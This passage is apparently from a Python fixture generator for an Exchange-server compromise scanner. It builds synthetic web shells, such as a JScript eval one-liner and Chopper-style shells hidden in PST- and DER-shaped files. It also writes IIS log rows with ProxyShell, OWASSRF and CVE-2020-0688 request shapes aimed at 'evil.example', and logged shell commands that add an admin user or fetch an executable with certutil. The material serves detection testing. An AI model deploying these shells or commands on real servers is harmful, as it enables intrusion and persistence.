          b"\xff\xfe" + JSCRIPT_ITEM_SHELL.encode("utf-16-le"))

    write(case("ws-gated") + "/" + OWA_AUTH + "/Current/scripts/premium/fxlogon.aspx",
          page(GATED_SHELL))

    write(case("ws-tunnel") + "/" + OWA_AUTH + "/15.1.2507/sync.aspx", page(TUNNEL_SHELL))
    root = case("ws-tunnel-near")
    write(root + "/" + WWWROOT + "/ops/smtpcheck.aspx", page(SMTP_CHECK_PAGE))
    write(root + "/" + WWWROOT + "/ops/web.config", page(SMTP_CHECK_CONFIG))

    # --- CVE-2021-27065 OAB dump -------------------------------------------------------
    write(case("oab-dump") + "/" + ASPNET_CLIENT + "/system_web/oabcfg.aspx",
          discover_aspx(chopper_script("k", host="f")))
    write(case("oab-dump-near") + "/Users/admin/Documents/oab-settings.txt",
          discover_aspx("https://mail.example.com/OAB"))

    # --- ProxyShell drops: PST and DER with an .aspx name ------------------------------
    shell = chopper_script("p9").encode("ascii")
    size = 6144
    write(case("pst-drop") + "/" + ASPNET_CLIENT + "/1234567890.aspx",
          pst_like("pst-drop", [(size // 2, shell)], size))
    note = b"Subject: Updated logon script for the new file server"
    write(case("pst-drop-near") + "/Users/alice/mail/archive.pst",
          pst_like("pst-near", [(3000, note)], 8192))

    write(case("der-drop") + "/" + OWA_AUTH + "/cert.aspx",
          der_csr(chopper_script("cz"), "der-drop"))
    write(case("der-drop-near") + "/inetpub/certs/site.cer",
          der_cert("mail.corp.example.com", ["mail.corp.example.com",
                                             "autodiscover.corp.example.com"], "der-near"))

    # --- compiled pages in Temporary ASP.NET Files -------------------------------------
    write(case("compiled-shell") + "/" + TEMP_ASPNET +
          "/owa/abc123/def456/App_Web_x1y2z3.dll",
          app_web_dll("compiled-shell",
                      ["<Module>", "App_Web_x1y2z3.dll", "mscorlib", "System.Web",
                       "Microsoft.JScript", "ASP", "aspnet_client_dvqfx_aspx", "Page", "Page_Load",
                       "get_Request", "get_Item", "VsaEngine", "JScriptEvaluate",
                       "FrameworkInitialize", "GetTypeHashCode", "ProcessRequest"],
                      ["/aspnet_client/dvqfx.aspx", "unsafe"]))
    write(case("compiled-near") + "/" + TEMP_ASPNET +
          "/root/7a1c33e2/5b9d04f1/App_Web_k4m2q9zt.dll",
          app_web_dll("compiled-near",
                      ["<Module>", "App_Web_k4m2q9zt.dll", "mscorlib", "System.Web",
                       "System.Web.UI.WebControls", "ASP", "intranet_default_aspx", "Page",
                       "Page_Load", "get_Request", "get_QueryString", "get_Item", "Label",
                       "set_Text", "FrameworkInitialize", "GetTypeHashCode", "ProcessRequest"],
                      ["/intranet/default.aspx", "tab", "links"]))

    # --- locations ---------------------------------------------------------------------
    root = case("loc-aspnet-client")
    write(root + "/" + ASPNET_CLIENT + "/system_web/4_0_30319/report.aspx",
          page(HARMLESS_REPORT_HTML))
    write(root + "/" + ASPNET_CLIENT + "/readme.txt", page(ASPNET_CLIENT_README))
    write(case("loc-aspnet-client-near") + "/" + WWWROOT + "/default.htm", page(DEFAULT_HTM))

    root = case("loc-ecp-auth")
    write(root + "/" + ECP_AUTH + "/TimeoutLogoff.aspx", page(TIMEOUT_LOGOFF_PAGE))
    write(root + "/" + ECP_AUTH + "/extra.aspx", page(EXTRA_ECP_PAGE))

    write(case("loc-known-path") + "/" + OWA_AUTH + "/8Lw7tAhF9i1pJnRo.aspx",
          page(HARMLESS_OK_PAGE))
    write(case("loc-known-name-near") + "/" + WWWROOT + "/app/help.aspx", page(HELP_PAGE))

    cfg = "Windows/System32/inetsrv/config/applicationHost.config"
    write(case("loc-iis-vdir") + "/" + cfg,
          page(application_host_config([("/x", "C:\\ProgramData\\COM1")])))
    write(case("loc-iis-vdir-near") + "/" + cfg, page(application_host_config([])))

    # --- user-supplied indicator lists (--ioc) -----------------------------------------
    name = "ioc-hash-custom"
    root = case(name, "scan -f jsonl --ioc iocs.txt input")
    tool = b"MZ" + byte_stream("ioc-hash-custom:tool", 1022, avoid=b"")
    write(root + "/Users/Public/Libraries/tsk.bin", tool)
    write(root + "/Users/Public/Libraries/notes.txt",
          page("Backup rotation: tapes go offsite every Friday.\n"))
    junk = hashlib.sha256(b"ioc-hash-custom:junk").hexdigest()[:63]   # a hash cut short
    case_file(name, "iocs.txt", page(
        "# IR-2021-031: hashes from the sandbox report (SHA-256;comment)\n"
        "%s;tsk.bin dropped by the web shell\n"
        "%s\n" % (hashlib.sha256(tool).hexdigest(), junk)))

    name = "ioc-mstic-csv"
    root = case(name, "scan -f jsonl --ioc mstic.csv input")
    write(root + "/" + WWWROOT + "/custom/dropper.aspx", page(DROPPER_PAGE))
    lib = b"MZ" + byte_stream("ioc-mstic-csv:dll", 2046, avoid=b"")
    write(root + "/" + WWWROOT + "/custom/bin/Custom.Web.dll", lib)
    case_file(name, "mstic.csv", join_lines([
        "DateAdded,FirstSeen,Indicator,IndicatorType,TLP",
        "2021-03-11,2021-03-04T06:12:44.1032517Z,%s,sha256,White" % hashlib.sha256(lib).hexdigest(),
        "2021-03-11,,C:\\inetpub\\wwwroot\\custom\\dropper.aspx,filepath,White",
    ], bom=False))

    name = "ioc-ip-list"
    root = case(name, "scan -f jsonl --ioc ips.txt input")
    rows = benign_rows("Owa", H, P, "e2e:ioc-ip-list", 2)
    rows.append(hp_row(t("02:47:03.318"), "Owa", P, "ioc-ip-list:row",
                       UrlStem="/owa/auth/logon.aspx", Method="GET",
                       UrlQuery="?url=https%3a%2f%2fmail.corp.example.com%2fowa%2f&reason=0",
                       AuthenticationType="", IsAuthenticated="false",
                       UserAgent=UA_FIREFOX_2021, ClientIpAddress="198.51.100.200",
                       RoutingHint="Url"))
    hp_file(root, "Owa", H, rows, P)
    case_file(name, "ips.txt", page("# perimeter blocklist, 2021-03-05\n198.51.100.200\n"))

    # --- lsass dump inside an archive ----------------------------------------------------
    write(case("lsass-in-zip") + "/ProgramData/x/out.zip",
          make_zip([("lsass.dmp", minidump(LSASS_MODULES, pad=0))], (2021, 3, 4, 3, 41, 12)))
    write(case("lsass-in-zip-near") + "/Users/alice/Documents/q1-report.zip",
          make_zip([("report.pdf", fake_pdf("q1-report"))], (2021, 2, 26, 17, 2, 30)))


# --------------------------------------------------------------------------------------
# D. end-to-end cases: the later chains in IIS W3C and Rps_Http logs
# --------------------------------------------------------------------------------------
# Request shapes follow the project notes (exchange-detection.md, the ProxyShell,
# ProxyNotShell, OWASSRF, CVE-2020-0688 and ProxyToken sections); every value below was
# made up for these fixtures. Attackers are on 203.0.113.0/24 and 198.51.100.0/24, each
# case with its own address so that a finding can be traced back to its row.

EVIL = "evil.example"
AUTODISCOVER_JSON = "/autodiscover/autodiscover.json"
PS_EMAIL = "&Email=autodiscover/autodiscover.json%3F@" + EVIL
# the CommonAccessToken: version 1, Windows, Kerberos, admin@corp.example (synthetic)
PS_RPS_CAT = "VgEAVAdXaW5kb3dzQwBBCEtlcmJlcm9zTBFhZG1pbkBjb3JwLmV4YW1wbGU="
PS_Q_NSPI = "@%s/mapi/nspi/?%s" % (EVIL, PS_EMAIL)
PS_Q_RPS = "@%s/powershell/?X-Rps-CAT=%s%s" % (EVIL, PS_RPS_CAT, PS_EMAIL)
PS_Q_EWS = "@%s/EWS/exchange.asmx?%s" % (EVIL, PS_EMAIL)
PNS_Q = "@%s/powershell/" % EVIL
OWASSRF_STEM = "/owa/mastermailbox@outlook.com/powershell"
UA_PYREQ_28 = "python-requests/2.28.1"
UA_FIREFOX_LINUX = "Mozilla/5.0 (X11; Linux x86_64; rv:91.0) Gecko/20100101 Firefox/91.0"

# the ws-eval-jscript one-liner with another parameter name (iis-shell-used)
LGX_SHELL = '<%@ Page Language="Jscript"%><%eval(Request.Item["zz"],"unsafe");%>'


def ecp_canary(key):
    """An msExchEcpCanary value: 76 base64url characters and a final dot, like ECP's."""
    import base64
    raw = hashlib.sha256((key + ":1").encode()).digest() + hashlib.sha256((key + ":2").encode()).digest()
    return base64.urlsafe_b64encode(raw[:57]).decode("ascii") + "."


def viewstate_query(key):
    """__VIEWSTATEGENERATOR + __VIEWSTATE as CVE-2020-0688 requests carry them: the
    LosFormatter marker (ff 01 32), a 772-byte BinaryFormatter stream that starts with
    the serialization header and goes on with filler (no gadget), base64, URL-encoded."""
    import base64
    body = b"\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00"
    body += byte_stream(key, 772 - len(body), avoid=b"")
    blob = b"\xff\x01\x32" + bytes([0x80 | (772 & 0x7F), 772 >> 7]) + body
    b64 = base64.b64encode(blob).decode("ascii")
    enc = b64.replace("+", "%2B").replace("/", "%2F").replace("=", "%3D")
    assert enc.startswith("%2FwEyhAYAAQAAAP")
    return "__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=" + enc


W3C_F2 = ("date time s-sitename s-ip cs-method cs-uri-stem cs-uri-query s-port c-ip cs-username "
          "cs(User-Agent) cs(Referer) cs-host sc-status sc-substatus sc-win32-status time-taken")
W3C_F3 = "date time c-ip cs-method cs-uri-stem cs-uri-query sc-status"


def w3c_row(fields, e):
    """An entry (as iis_line takes it) written for any #Fields list (iis_line is the
    default set)."""
    e = tuple(e) + (0, 0, 443, "-")[len(e) - 9:]
    ts, method, stem, query, user, ip, ua, status, taken, sub, win32, port, referer = e
    enc = lambda s: "-" if not s else s.replace(" ", "+")  # noqa: E731
    v = {"date": ts[:10], "time": ts[11:], "s-sitename": "W3SVC1", "s-ip": SERVER_IP,
         "cs-method": method, "cs-uri-stem": stem, "cs-uri-query": enc(query),
         "s-port": str(port), "cs-username": enc(user), "c-ip": ip, "cs(User-Agent)": enc(ua),
         "cs(Referer)": enc(referer), "cs-host": URLHOST, "sc-status": str(status),
         "sc-substatus": str(sub), "sc-win32-status": str(win32), "time-taken": str(taken)}
    return " ".join(v[f] for f in fields.split())


def rps_case_rows(name, build, day, extra):
    """Ordinary Rps_Http rows for 11h of the day (two admin commands, a health probe),
    plus extra: [(ts, overrides)]."""
    r = rng("e2e:" + name)
    rows = [
        rps_row(day + "T11:02:14.220Z", build, name, 0, r, CommandName="Get-Mailbox"),
        rps_row(day + "T11:19:40.507Z", build, name, 1, r, CommandName="Get-ExchangeServer"),
        rps_row(day + "T11:31:08.913Z", build, name, 2, r, CommandName="Get-MailboxDatabase",
                AuthenticatedUser="CORP\\HealthMailbox0a1b2c3", ClientIpAddress=SERVER_IP,
                ClientInfo="Exchange BackEnd Probes"),
    ]
    for i, (ts, kw) in enumerate(extra):
        rows.append(rps_row(day + "T" + ts, build, name + ":x", 3 + i, r, **kw))
    return rows


def gen_e2e_iis():
    """Cases for the chains after ProxyLogon, in IIS W3C logs and Rps_Http."""
    P = BUILD_CURRENT

    # --- ProxyShell, August 2021 ---------------------------------------------------------
    d = "2021-08-23"
    e = iis_benign(d, 2021)
    e.append(req(d + " 02:41:07", "POST", AUTODISCOVER_JSON, PS_Q_NSPI, "", "203.0.113.11",
                 UA_PYREQ_26, 401, 15))
    iis_write(case("iis-proxyshell-attempt"), e)

    e = iis_benign(d, 2021)
    e.append(req(d + " 02:43:10", "GET", AUTODISCOVER_JSON, PS_Q_RPS, "", "203.0.113.12",
                 UA_CHROME92, 200, 1873))
    e.append(req(d + " 02:44:02", "GET", AUTODISCOVER_JSON, PS_Q_EWS, "", "203.0.113.12",
                 UA_CHROME92, 302, 36))
    iis_write(case("iis-proxyshell-exploit"), e)

    # Autodiscover v2: a mailbox address after '@' in the path, but no back-end path
    e = iis_benign(d, 2021)
    for ts, who, ip, ua, q in [
            ("06:12:44", "alice", "10.1.2.3", UA_OUTLOOK_IOS, "Protocol=ActiveSync&RedirectCount=1"),
            ("06:12:45", "alice", "10.1.2.3", UA_OUTLOOK_IOS, "Protocol=Ews&RedirectCount=1"),
            ("08:30:19", "bob", "10.10.1.34", UAS[2021]["outlook"], "Protocol=Ews&RedirectCount=1"),
            ("08:30:20", "bob", "10.10.1.34", UAS[2021]["outlook"],
             "Protocol=AutodiscoverV1&RedirectCount=1")]:
        e.append(req(d + " " + ts, "GET", AUTODISCOVER_JSON + "/v1.0/%s@corp.example.com" % who,
                     q, "", ip, ua, 200, 46))
    iis_write(case("iis-proxyshell-near"), e)

    # --- ProxyNotShell, October 2022: the same shape, authenticated, to /powershell --------
    d = "2022-10-03"
    for name, status, taken in (("iis-proxynotshell-attempt", 401, 22),
                                ("iis-proxynotshell-exploit", 200, 2391)):
        e = iis_benign(d, 2022)
        e.append(req(d + " 03:17:52", "POST", AUTODISCOVER_JSON, PNS_Q, "CORP\\jdoe",
                     "203.0.113.14", UA_PYREQ_28, status, taken))
        iis_write(case(name), e)

    # --- OWASSRF, December 2022 -------------------------------------------------------------
    d = "2022-12-15"
    for name, status, taken in (("iis-owassrf-exploit", 200, 3120),
                                ("iis-owassrf-attempt", 401, 17)):
        e = iis_benign(d, 2022)
        e.append(req(d + " 11:05:58", "POST", "/owa/auth.owa", "", "", "203.0.113.61",
                     UA_CHROME105, 302, 188))
        e.append(req(d + " 11:06:31", "POST", OWASSRF_STEM, "", "CORP\\jdoe", "203.0.113.61",
                     UA_CHROME105, status, taken))
        iis_write(case(name), e)

    # remote PowerShell the ordinary way: Kerberos over http://<server>/powershell (front
    # end, port 80), proxied to the back end (444); and an OWA request
    root = case("iis-owassrf-near")
    rps_q = "clientApplication=ActiveMonitor;PSVersion=5.1"
    e = iis_benign(d, 2022)
    e.append(req(d + " 11:06:31", "POST", "/powershell", rps_q, "CORP\\admin", "10.0.0.9",
                 UA_WINRM, 200, 640, port=80))
    e.append(req(d + " 11:08:02", "POST", "/owa/service.svc", "action=GetItem&EP=1&ID=-41&AC=1",
                 "CORP\\alice", "10.10.1.21", UAS[2022]["edge"], 200, 52))
    iis_write(root, e)
    e = iis_backend_benign(d, 2022)
    e.append(req(d + " 11:06:31", "POST", "/powershell", rps_q, "CORP\\admin", SERVER_IP,
                 UA_WINRM, 200, 611, port=444))
    iis_write(root, e, site=2)

    # --- OWASSRF's trace in Rps_Http: the attacker's user agent in ClientInfo --------------
    day, hour = "2022-12-15", "2022121511"
    owa_rps = dict(AuthenticatedUser="CORP\\jdoe", ClientIpAddress="203.0.113.61",
                   ClientInfo=UA_CHROME105, UrlQuery="")
    for name, status in (("rps-clientinfo-exploit", 200), ("rps-clientinfo-attempt", 500)):
        rows = rps_case_rows(name, P, day, [("11:06:31.448Z", dict(owa_rps, HttpStatus=status))])
        rps_write(case(name), hour, P, rows)
    rows = rps_case_rows("rps-clientinfo-near", P, day, [
        ("11:44:52.031Z", dict(ClientInfo="", CommandName="Get-ExchangeCertificate"))])
    rps_write(case("rps-clientinfo-near"), hour, P, rows)

    # --- CVE-2020-0688: ViewState in the query of an ECP page, March 2020 --------------------
    d = "2020-03-02"
    e = iis_benign(d, 2020)
    e.append(req(d + " 04:26:40", "POST", "/owa/auth.owa", "", "", "203.0.113.71", UA_CHROME80,
                 302, 201))
    e.append(req(d + " 04:27:55", "GET", "/ecp/default.aspx", viewstate_query("cve-2020-0688"),
                 "CORP\\jdoe", "203.0.113.71", UA_CHROME80, 500, 94))
    iis_write(case("iis-cve-2020-0688"), e)

    e = iis_benign(d, 2020)
    e.append(req(d + " 04:27:55", "GET", "/ecp/default.aspx", "", "CORP\\exadmin", "10.10.0.5",
                 UAS[2020]["edge"], 200, 412))
    iis_write(case("iis-cve-2020-0688-near"), e)

    # --- ProxyToken, August 2021 -----------------------------------------------------------
    d = "2021-08-30"
    stem = "/ecp/victim@corp.example.com/RulesEditor/InboxRules.svc/NewObject"
    e = iis_benign(d, 2021)
    e.append(req(d + " 05:52:13", "POST", stem, "SecurityToken=abc", "", "203.0.113.81",
                 UA_PYREQ_26, 500, 61))
    iis_write(case("iis-proxytoken"), e)

    e = iis_benign(d, 2021)
    e.append(req(d + " 05:52:13", "POST", stem, "msExchEcpCanary=" + ecp_canary("proxytoken-near"),
                 "CORP\\exadmin", "10.10.0.5", UAS[2021]["edge"], 200, 188))
    iis_write(case("iis-proxytoken-near"), e)

    # --- ProxyLogon's request shapes in IIS, March 2021 --------------------------------------
    d = "2021-03-03"
    root = case("iis-proxylogon-shapes")
    e = iis_benign(d, 2021)
    for ts, stem, status, taken in [("02:11:05", "/ecp/y.js", 200, 180),
                                    ("02:12:20", "/owa/auth/Current/themes/resources/logon.css",
                                     200, 96),
                                    ("02:13:02", "/ecp/default.flt", 500, 41)]:
        e.append(req(d + " " + ts, "POST", stem, "", "", "203.0.113.31", UA_CHROME87, status, taken))
    iis_write(root, e)
    e = iis_backend_benign(d, 2021)
    e.append(req(d + " 02:15:39", "POST", "/ecp/DDI/DDIService.svc/SetObject",
                 "schema=ResetOABVirtualDirectory&msExchEcpCanary=" + ecp_canary("pl-shapes"),
                 "EXCH01$", SERVER_IP, UA_CHROME87, 200, 1210, port=444))
    iis_write(root, e, site=2)

    # browsers GET the same static files; Microsoft's nmap script GETs /owa/auth/x.js
    d = "2023-01-10"
    e = iis_benign(d, 2023)
    for ts, stem in [("08:14:03", "/owa/auth/15.1.2507/scripts/premium/flogon.js"),
                     ("08:14:03", "/owa/auth/15.1.2507/themes/resources/favicon.ico"),
                     ("08:14:04", "/owa/auth/Current/themes/resources/logon.css")]:
        e.append(req(d + " " + ts, "GET", stem, "", "", "10.10.2.17", UAS[2023]["edge"], 200, 3))
    e.append(req(d + " 10:14:22", "GET", "/owa/auth/x.js", "", "", "198.51.100.44", UA_NMAP, 500, 12))
    iis_write(case("iis-proxylogon-shapes-near"), e)

    # --- web-shell use in the logs, August 2021 ---------------------------------------------
    d = "2021-08-24"
    e = iis_benign(d, 2021)
    e.append(req(d + " 03:05:11", "GET", "/aspnet_client/s.aspx", "cmd=whoami", "",
                 "203.0.113.41", UA_CHROME92, 200, 88))
    e.append(req(d + " 03:07:40", "POST", "/owa/auth/errorFS.aspx",
                 "c=cmd+/c+net+user+admin+P%40ss+/add", "", "203.0.113.41", UA_CHROME92, 200, 1322))
    e.append(req(d + " 03:12:09", "GET", "/aspnet_client/system_web/t.aspx",
                 "z=certutil+-urlcache+-f+http://198.51.100.50/x.exe+c:\\windows\\temp\\x.exe", "",
                 "203.0.113.42", UA_CURL, 200, 2750))
    iis_write(case("iis-shell-commands"), e)

    e = iis_benign(d, 2021)
    e.append(req(d + " 09:40:16", "GET", "/search.aspx", "q=how+to+reset+my+password",
                 "CORP\\alice", "10.10.1.21", UAS[2021]["edge"], 200, 140))
    e.append(req(d + " 10:02:51", "GET", "/search.aspx", "q=windows+command+line+tips",
                 "CORP\\bob", "10.10.1.34", UAS[2021]["firefox"], 200, 151))
    iis_write(case("iis-shell-commands-near"), e)

    d = "2021-03-05"
    for name, status in (("iis-known-shell-name", 200), ("iis-known-shell-name-near", 404)):
        e = iis_benign(d, 2021)
        e.append(req(d + " 04:18:27", "POST", "/aspnet_client/discover.aspx", "", "",
                     "203.0.113.51", UA_CHROME87, status, 412 if status == 200 else 2))
        e.append(req(d + " 04:21:50", "POST", "/owa/auth/errorEE.aspx", "", "", "203.0.113.51",
                     UA_CHROME87, status, 733 if status == 200 else 3))
        iis_write(case(name), e)

    # a shell on disk, and requests to its URL (or only to other pages)
    d = "2021-08-26"
    lgx = ASPNET_CLIENT + "/system_web/lgx.aspx"
    root = case("iis-shell-used")
    write(root + "/" + lgx, LGX_SHELL)
    e = iis_benign(d, 2021)
    for ts, status, taken in [("05:40:12", 200, 95), ("05:41:03", 200, 2210), ("05:44:37", 500, 31)]:
        e.append(req(d + " " + ts, "POST", "/aspnet_client/system_web/lgx.aspx", "", "",
                     "203.0.113.77", UA_CHROME92, status, taken))
    e.append(req(d + " 07:02:19", "GET", "/aspnet_client/system_web/lgx.aspx", "", "",
                 "198.51.100.20", UA_FIREFOX_LINUX, 404, 2))
    iis_write(root, e)

    root = case("iis-shell-used-near")
    write(root + "/" + lgx, LGX_SHELL)
    e = iis_benign(d, 2021)
    e.append(req(d + " 07:02:19", "GET", "/aspnet_client/system_web/lg.aspx", "", "",
                 "198.51.100.20", UA_FIREFOX_LINUX, 404, 2))
    iis_write(root, e)

    # --- one W3C file whose #Fields changes twice, with junk lines ---------------------------
    d = "2021-08-25"
    ben = iis_benign(d, 2021)
    extra = [req(d + " 04:29:57", "GET", "/owa/", "", "CORP\\bob", "10.10.1.34",
                 UAS[2021]["edge"], 200, 160),
             req(d + " 05:12:30", "POST", "/mapi/emsmdb/", "MailboxId=%s@corp.example.com"
                 % guid("mailbox:carol"), "CORP\\carol", "10.10.2.17", UAS[2021]["outlook"], 200, 27),
             req(d + " 06:20:31", "GET", "/owa/", "", "CORP\\carol", "10.10.2.17",
                 UAS[2021]["edge"], 200, 171),
             req(d + " 10:47:12", "GET", "/ecp/", "", "CORP\\exadmin", "10.10.0.5",
                 UAS[2021]["edge"], 200, 208),
             req(d + " 06:21:15", "GET", "/owa/", "", "CORP\\dave", "192.168.50.12",
                 UAS[2021]["firefox"], 200, 133)]
    hit1 = req(d + " 02:22:40", "GET", AUTODISCOVER_JSON, PS_Q_RPS, "", "203.0.113.21",
               UA_CHROME92, 200, 1910)
    hit2 = req(d + " 05:48:19", "POST", AUTODISCOVER_JSON, PS_Q_EWS, "", "203.0.113.22",
               UA_CHROME92, 200, 77)
    hit3 = req(d + " 10:05:33", "POST", AUTODISCOVER_JSON, PS_Q_NSPI, "", "203.0.113.23",
               UA_CHROME92, 200, 58)
    assert w3c_row(IIS_FIELDS, hit1) == iis_line(*hit1)
    sec1 = sorted([x for x in ben if x[0] < d + " 04"] + [hit1])
    sec2 = sorted([x for x in ben if d + " 04" < x[0] < d + " 09"] + extra[1:3] + [hit2])
    sec3 = sorted([x for x in ben if x[0] > d + " 09"] + [extra[3], hit3])
    head = ["#Software: Microsoft Internet Information Services 10.0", "#Version: 1.0"]
    lines = head + ["#Date: " + sec1[0][0], "#Fields: " + IIS_FIELDS]
    for x in sec1:
        lines.append(w3c_row(IIS_FIELDS, x))
        if x[0].endswith("01:20:40"):
            lines.append("\x00\x01garbage")
        if x[0].endswith("03:44:51"):
            lines.append("")
    cut = w3c_row(IIS_FIELDS, extra[0])
    lines.append(cut[:cut.index("Win64")])         # the service stopped mid-row
    lines += head + ["#Date: " + d + " 04:31:02", "#Fields: " + W3C_F2]
    for x in sec2:
        lines.append(w3c_row(W3C_F2, x))
        if x[0].endswith("05:12:30"):
            lines.append("-")
        if x[0].endswith("06:20:31"):
            wide = w3c_row(W3C_F2, extra[4]) + " -" * 23   # 17 fields and 23 more
            assert len(wide.split(" ")) == 40
            lines.append(wide)
    lines.append("#Fields: " + W3C_F3)
    lines += [w3c_row(W3C_F3, x) for x in sec3]
    write(case("iis-fields-change") + "/inetpub/logs/LogFiles/W3SVC1/u_ex210825.log",
          join_lines(lines, bom=False))

    # a row whose date is '-' takes its block's #Date: (a second header block, written a day
    # later when the service restarted); also a file read in pieces (make e2e-pieces)
    d1, d2 = "2021-08-25", "2021-08-26"
    head = ["#Software: Microsoft Internet Information Services 10.0", "#Version: 1.0"]
    lines = head + ["#Date: " + d1 + " 00:03:11", "#Fields: " + IIS_FIELDS]
    lines += [iis_line(*x) for x in sorted(iis_benign(d1, 2021))]
    lines += head + ["#Date: " + d2 + " 00:01:02", "#Fields: " + IIS_FIELDS]
    row = iis_line(*req(d2 + " 02:22:40", "GET", AUTODISCOVER_JSON, PS_Q_RPS, "", "203.0.113.29",
                        UA_CHROME92, 200, 1873))
    assert row.startswith(d2 + " ")
    lines.append("-" + row[len(d2):])
    write(case("iis-date-dash") + "/inetpub/logs/LogFiles/W3SVC1/u_ex210825.log",
          join_lines(lines, bom=False))

    # --- scanners, internal sources ----------------------------------------------------------
    d = "2022-12-20"
    e = iis_benign(d, 2022)
    e += [req(d + " 01:14:09", "GET", AUTODISCOVER_JSON, PS_Q_NSPI, "", "198.51.100.61",
              UA_NUCLEI, 302, 14),
          req(d + " 01:14:10", "POST", OWASSRF_STEM, "", "", "198.51.100.61", UA_NUCLEI, 401, 9),
          req(d + " 06:51:37", "GET", AUTODISCOVER_JSON, "@%s/powershell/?%s" % (EVIL, PS_EMAIL),
              "", "198.51.100.62", UA_ZGRAB, 401, 11),
          req(d + " 06:51:38", "POST", OWASSRF_STEM, "", "", "198.51.100.62", UA_ZGRAB, 302, 10)]
    iis_write(case("iis-scanner-noise"), e)

    d = "2021-08-26"
    e = iis_benign(d, 2021)
    e += [req(d + " 02:30:11", "POST", AUTODISCOVER_JSON, PS_Q_NSPI, "", "10.20.30.40",
              UA_CHROME92, 401, 13),
          req(d + " 02:30:12", "GET", AUTODISCOVER_JSON, PS_Q_EWS, "", "10.20.30.40",
              UA_CHROME92, 401, 12)]
    iis_write(case("iis-internal-attempt"), e)

    e = iis_benign(d, 2021)
    e.append(req(d + " 02:31:40", "GET", AUTODISCOVER_JSON, PS_Q_RPS, "", "10.20.30.41",
                 UA_CHROME92, 200, 1766))
    iis_write(case("iis-internal-exploit"), e)

    # --- a small story for --timeline: probe, ProxyShell, PST-shaped shell, shell used --------
    d = "2021-08-27"
    root = case("timeline-text", "scan -f text --color never --timeline input")
    shell = chopper_script("qf").encode("ascii")
    write(root + "/" + ASPNET_CLIENT + "/qfdmh.aspx",
          pst_like("timeline-text", [(3072, shell)], 6144))
    e = iis_benign(d, 2021)
    e += [req(d + " 01:37:26", "POST", AUTODISCOVER_JSON, PS_Q_NSPI, "", "198.51.100.9",
              UA_PYREQ_26, 401, 12),
          req(d + " 02:00:14", "GET", AUTODISCOVER_JSON, PS_Q_RPS, "", "203.0.113.5",
              UA_CHROME92, 200, 2214),
          req(d + " 02:10:08", "POST", "/aspnet_client/qfdmh.aspx", "", "", "203.0.113.5",
              UA_CHROME92, 200, 530),
          req(d + " 02:10:47", "POST", "/aspnet_client/qfdmh.aspx", "", "", "203.0.113.5",
              UA_CHROME92, 200, 1611)]
    iis_write(root, e)

    # a busy internet-facing server: the same compromise among 2,000 addresses probing
    # CVE-2020-0688 (an ordinary week on the internet); the text report folds the probes
    # and its summary names the exploiting address first
    def probe_viewstate(i):
        """the short ViewState a scanner's CVE-2020-0688 check sends (no payload)"""
        import base64
        blob = b"\xff\x01\x32\x18" + hashlib.sha256(b"busy-%d" % i).digest()[:24]
        b64 = base64.b64encode(blob).decode("ascii")
        return "__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=" + b64.replace("+", "%2B").replace(
            "/", "%2F").replace("=", "%3D")
    root = case("busy-server-text", "scan -f text --color never input")
    write(root + "/" + ASPNET_CLIENT + "/qfdmh.aspx",
          pst_like("busy-server-text", [(3072, shell)], 6144))
    e = iis_benign(d, 2021)
    e += [req(d + " 02:00:14", "GET", AUTODISCOVER_JSON, PS_Q_RPS, "", "203.0.113.5",
              UA_CHROME92, 200, 2214),
          req(d + " 02:10:08", "POST", "/aspnet_client/qfdmh.aspx", "", "", "203.0.113.5",
              UA_CHROME92, 200, 530)]
    for i in range(2000):
        e.append(req("%s %02d:%02d:%02d" % (d, i * 24 // 2000, i % 60, (7 * i) % 60), "GET",
                     "/ecp/default.aspx", probe_viewstate(i), "",
                     "198.18.%d.%d" % (i // 250, i % 250 + 1), UA_CHROME80, 302, 3))
    iis_write(root, e)

    # the same folder given twice and a folder inside it: each file is read once
    d = "2021-08-23"
    e = iis_benign(d, 2021)
    e.append(req(d + " 02:43:10", "GET", AUTODISCOVER_JSON, PS_Q_RPS, "", "203.0.113.12",
                 UA_CHROME92, 200, 1873))
    iis_write(case("paths-nested", "scan -f jsonl input input/inetpub ./input/"), e)


# --------------------------------------------------------------------------------------

E2E_OWNED = [
    "pl-autodiscover-only", "pl-ssrf-backend", "pl-emsmdb", "pl-proxylogon-ecp", "pl-ddiservice",
    "pl-reset-200", "pl-reset-500-near", "noise-localhost-probe", "noise-exporttool",
    "near-benign-httpproxy", "ecp-set-vdir-script", "ecp-set-vdir-benign", "oab-outside",
    "oab-temp-near", "ioc-ip", "ioc-ip-near", "ioc-ua", "ioc-ua-crawler-get-near",
    "ioc-ua-crawler-post", "ioc-ua-embedded-near", "art-lsass-dump", "art-lsass-renamed", "art-dump-near",
    "art-lsass-name-only", "art-archive", "art-archive-near", "exposure-unpatched",
    "exposure-patched-near", "exposure-rowversion", "exposure-exsetup", "exposure-exsetup-only",
    "exposure-partial", "exposure-partial-near", "exposure-exsetup-damaged", "exposure-newer",
    "exposure-eol-2013", "exposure-mitigated", "exposure-mitigated-bypass", "exposure-mitigated-em",
    "exposure-mitigated-em-near", "csv-quirks", "renamed-log",
    "case-insensitive", "single-file", "since-until", "format-text", "format-csv",
    # files on disk (gen_e2e_files)
    "ws-eval-jscript", "ws-eval-vbscript", "ws-eval-near", "ws-process", "ws-process-near",
    "ws-load", "ws-load-near", "ws-upload", "ws-upload-near", "ws-obfuscated",
    "ws-obfuscated-near", "ws-utf16", "ws-gated", "ws-tunnel", "ws-tunnel-near", "oab-dump",
    "oab-dump-near", "pst-drop", "pst-drop-near", "der-drop", "der-drop-near",
    "compiled-shell", "compiled-near", "loc-aspnet-client", "loc-aspnet-client-near",
    "loc-ecp-auth", "loc-known-path", "loc-known-name-near", "loc-iis-vdir",
    "loc-iis-vdir-near", "ioc-hash-custom", "ioc-mstic-csv", "ioc-ip-list", "lsass-in-zip",
    "lsass-in-zip-near",
    # IIS W3C and Rps_Http (gen_e2e_iis)
    "iis-proxyshell-attempt", "iis-proxyshell-exploit", "iis-proxyshell-near",
    "iis-proxynotshell-attempt", "iis-proxynotshell-exploit", "iis-owassrf-exploit",
    "iis-owassrf-attempt", "iis-owassrf-near", "rps-clientinfo-exploit", "rps-clientinfo-attempt",
    "rps-clientinfo-near", "iis-cve-2020-0688", "iis-cve-2020-0688-near", "iis-proxytoken",
    "iis-proxytoken-near", "iis-proxylogon-shapes", "iis-proxylogon-shapes-near",
